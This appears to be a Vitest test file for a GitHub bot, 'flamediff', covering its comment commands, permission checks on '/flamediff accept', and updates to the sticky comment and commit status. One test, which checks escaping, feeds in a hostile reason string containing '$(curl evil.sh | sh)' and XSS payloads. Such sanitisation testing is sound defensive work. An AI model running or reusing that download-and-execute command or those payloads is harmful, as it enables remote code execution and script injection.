// Comment commands against nock's GitHub: permission checks through the API, replies, the
// acceptance record in the store, the sticky comment and the commit status.
import nock from 'nock';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { isAccepted, readAcceptances } from '../../src/bot/acceptances.js';
import { BOT_HELP } from '../../src/bot/commands.js';
import { handleIssueComment } from '../../src/bot/issue-comment.js';
import { REPLY_MARKER } from '../../src/bot/reply.js';
import { COMMENT_MARKER } from '../../src/lib/comment-marker.js';
import { writePullReport } from '../../src/store/pulls.js';
import { API } from '../github/helpers.js';
import { commentPayload, fixture, HEAD, REPO, testBot } from './helpers.js';

const COMMENTS = `${REPO}/issues/2/comments`;
const created = (body: string, id = 1486002600) => ({
  id,
  body,
  html_url: `https://github.com/Codertocat/Hello-World/pull/2#issuecomment-${id}`,
  user: { login: 'github-actions[bot]', type: 'Bot' },
});
const STICKY = `${COMMENT_MARKER}\n## :x: flamediff: fail\n\nParser grew.`;

beforeAll(() => nock.disableNetConnect());
afterEach(() => nock.cleanAll());

function permission(scope: nock.Scope, user: string, file: string | null): nock.Scope {
  const s = scope.get(`${REPO}/collaborators/${user}/permission`);
  return file ? s.reply(200, fixture(file)) : s.reply(404, { message: 'Not Found' });
}

describe('help and unknown commands', () => {
  it('/flamediff help replies with the command list (no permission needed)', async () => {
    let body = '';
    const scope = nock(API)
      .post(COMMENTS, (b) => {
        body = b.body;
        return true;
      })
      .reply(201, created('x'));
    const bot = testBot(commentPayload('/flamediff help'));
    expect(await handleIssueComment(bot)).toEqual({ kind: 'help', pull: 2 });
    expect(scope.isDone()).toBe(true);
    expect(body).toBe(`${REPLY_MARKER}\n${BOT_HELP}`);
  });

  it('an unknown word gets a short help that quotes it as code', async () => {
    let body = '';
    const scope = nock(API)
      .post(COMMENTS, (b) => {
        body = b.body;
        return true;
      })
      .reply(201, created('x'));
    const bot = testBot(commentPayload('/flamediff frobnicate @everyone'));
    expect(await handleIssueComment(bot)).toEqual({ kind: 'unknown', pull: 2 });
    expect(scope.isDone()).toBe(true);
    expect(body).toContain('Unknown flamediff command `frobnicate`.');
    expect(body).toContain('/flamediff accept [reason]');
  });
});

describe('ignored comments (no API call at all)', () => {
  const cases: [string, Record<string, unknown>][] = [
    [
      'its own sticky comment',
      commentPayload(`${COMMENT_MARKER}\n/flamediff accept`, 'github-actions[bot]', 'Bot'),
    ],
    ['its own reply', commentPayload(`${REPLY_MARKER}\n/flamediff help`, 'someone')],
    ['another bot', commentPayload('/flamediff accept', 'dependabot[bot]', 'Bot')],
    ['a comment without a command', commentPayload('LGTM, but /flamediff is slow?')],
    ['a command inside a code fence', commentPayload('```\n/flamediff accept\n```')],
  ];
  for (const [what, payload] of cases) {
    it(what, async () => {
      const bot = testBot(payload);
      const out = await handleIssueComment(bot);
      expect(out.kind).toBe('ignored');
      expect(bot.lines.join('\n')).toMatch(/ignoring the comment/);
    });
  }

  it('a comment on an issue that is not a pull request', async () => {
    const p = commentPayload('/flamediff accept') as { issue: { pull_request?: unknown } };
    delete p.issue.pull_request;
    const bot = testBot(p as Record<string, unknown>);
    expect(await handleIssueComment(bot)).toMatchObject({
      kind: 'ignored',
      reason: '#2 is an issue, not a pull request',
    });
  });

  it('an edited comment does not repeat the command', async () => {
    const p = commentPayload('/flamediff accept');
    p.action = 'edited';
    expect((await handleIssueComment(testBot(p))).kind).toBe('ignored');
  });
});

describe('/flamediff accept', () => {
  it('a writer accepts the current head: recorded, sticky comment marked, status set, +1 reaction', async () => {
    let patched = '';
    let status: Record<string, string> = {};
    const scope = permission(nock(API), 'maintainer-mona', 'permission.write.json')
      .get(`${REPO}/pulls/2`)
      .reply(200, fixture('pull.json'))
      .get('/user')
      .reply(403, { message: 'Resource not accessible by integration' })
      .get(COMMENTS)
      .query(true)
      .reply(200, [created(STICKY, 1486002004)])
      .patch(`${REPO}/issues/comments/1486002004`, (b) => {
        patched = b.body;
        return true;
      })
      .reply(200, created('x', 1486002004))
      .post(`${REPO}/statuses/${HEAD}`, (b) => {
        status = b;
        return true;
      })
      .reply(201, fixture('status.created.json'))
      .post(`${REPO}/issues/comments/1486002500/reactions`, { content: '+1' })
      .reply(201, { id: 1, content: '+1' });
    const bot = testBot(commentPayload('/flamediff accept the new cache costs 2% on cold start'));
    expect(await handleIssueComment(bot)).toEqual({ kind: 'accepted', pull: 2 });
    expect(scope.isDone()).toBe(true);
    const a = await isAccepted(bot.store(), 2, HEAD);
    expect(a).toMatchObject({
      sha: HEAD,
      by: 'maintainer-mona',
      reason: 'the new cache costs 2% on cold start',
      via: 'comment',
    });
    expect(await isAccepted(bot.store(), 2, 'f'.repeat(40))).toBeNull();
    expect(patched.startsWith(COMMENT_MARKER)).toBe(true);
    expect(patched).toContain('**Accepted** with `/flamediff accept` by `maintainer-mona`');
    expect(patched).toContain('Parser grew.');
    expect(status).toMatchObject({ state: 'success', context: 'flamediff' });
  });

  it('maintain (reported as permission write, role maintain) may accept', async () => {
    const scope = permission(nock(API), 'maintainer-mona', 'permission.maintain.json')
      .get(`${REPO}/pulls/2`)
      .reply(200, fixture('pull.json'))
      .get('/user')
      .reply(403, {})
      .get(COMMENTS)
      .query(true)
      .reply(200, [])
      .post(COMMENTS)
      .reply(201, created('x'))
      .post(`${REPO}/statuses/${HEAD}`)
      .reply(201, fixture('status.created.json'))
      .post(`${REPO}/issues/comments/1486002500/reactions`)
      .reply(201, {});
    const bot = testBot(commentPayload('/flamediff accept'));
    expect((await handleIssueComment(bot)).kind).toBe('accepted');
    expect(scope.isDone()).toBe(true);
  });

  for (const [who, file] of [
    ['read access', 'permission.read.json'],
    ['triage access', 'permission.triage.json'],
    ['no access (404: not a collaborator)', null],
  ] as const) {
    it(`someone with ${who} gets a polite refusal and nothing is recorded`, async () => {
      let body = '';
      const scope = permission(nock(API), 'drive-by', file)
        .post(COMMENTS, (b) => {
          body = b.body;
          return true;
        })
        .reply(201, created('x'))
        .post(`${REPO}/issues/comments/1486002500/reactions`, { content: 'confused' })
        .reply(201, {});
      const bot = testBot(commentPayload('/flamediff accept trust me', 'drive-by'));
      expect(await handleIssueComment(bot)).toEqual({ kind: 'refused', pull: 2 });
      expect(scope.isDone()).toBe(true);
      expect(body).toContain('Sorry `drive-by`, only people with write access');
      expect(await readAcceptances(bot.store(), 2)).toEqual([]);
      expect(bot.lines.join('\n')).toMatch(
        /warning: flamediff: drive-by asked to accept #2 but has '\w+' access/,
      );
    });
  }

  for (const [what, sha, at, why] of [
    [
      'a push after the last report',
      'e'.repeat(40),
      '2019-05-15T15:00:00Z',
      /last report is for eeeeeeeeeeee/,
    ],
    ['a report posted after the comment', HEAD, '2019-05-15T15:30:00Z', /posted after your comment/],
  ] as const) {
    it(`accepts nothing the maintainer could not have seen (${what})`, async () => {
      let body = '';
      const scope = permission(nock(API), 'maintainer-mona', 'permission.write.json')
        .get(`${REPO}/pulls/2`)
        .reply(200, fixture('pull.json'))
        .post(COMMENTS, (b) => {
          body = b.body;
          return true;
        })
        .reply(201, created('x'))
        .post(`${REPO}/issues/comments/1486002500/reactions`, { content: 'confused' })
        .reply(201, {});
      const bot = testBot(
        commentPayload('/flamediff accept looks fine', 'maintainer-mona', 'User', '2019-05-15T15:20:21Z'),
      );
      await bot
        .store()
        .update('report', (tx) => writePullReport(tx, 2, sha, { 'report.json': '{}' }, 10, at));
      expect(await handleIssueComment(bot)).toEqual({ kind: 'refused', pull: 2 });
      expect(scope.isDone()).toBe(true);
      expect(body).toMatch(why);
      expect(body).toContain('nothing was accepted');
      expect(await readAcceptances(bot.store(), 2)).toEqual([]);
    });
  }

  it('shell metacharacters and HTML in the reason are stored as text and escaped in the comment', async () => {
    let patched = '';
    const reason =
      '$(curl evil.sh | sh); `id` && <img src=x onerror=alert(1)> [x](javascript:alert(1)) @octocat';
    const scope = permission(nock(API), 'maintainer-mona', 'permission.write.json')
      .get(`${REPO}/pulls/2`)
      .reply(200, fixture('pull.json'))
      .get('/user')
      .reply(403, {})
      .get(COMMENTS)
      .query(true)
      .reply(200, [created(STICKY, 1486002004)])
      .patch(`${REPO}/issues/comments/1486002004`, (b) => {
        patched = b.body;
        return true;
      })
      .reply(200, created('x', 1486002004))
      .post(`${REPO}/statuses/${HEAD}`)
      .reply(201, {})
      .post(`${REPO}/issues/comments/1486002500/reactions`)
      .reply(201, {});
    const bot = testBot(commentPayload(`/flamediff accept ${reason}`));
    expect((await handleIssueComment(bot)).kind).toBe('accepted');
    expect(scope.isDone()).toBe(true);
    expect((await isAccepted(bot.store(), 2, HEAD))?.reason).toBe(reason);
    const block = patched.slice(
      patched.indexOf('<!-- flamediff:accepted -->'),
      patched.indexOf('<!-- /flamediff:accepted -->'),
    );
    expect(block).not.toContain('<img');
    expect(block).toContain('&lt;img');
    expect(block).not.toMatch(/@octocat/);
    expect(block).not.toContain('](javascript');
    // The log line quotes the command as a JSON string: no workflow command (::) can start a line.
    expect(bot.lines.some((l) => /command accept \(reason "\$\(curl/.test(l))).toBe(true);
  });
});
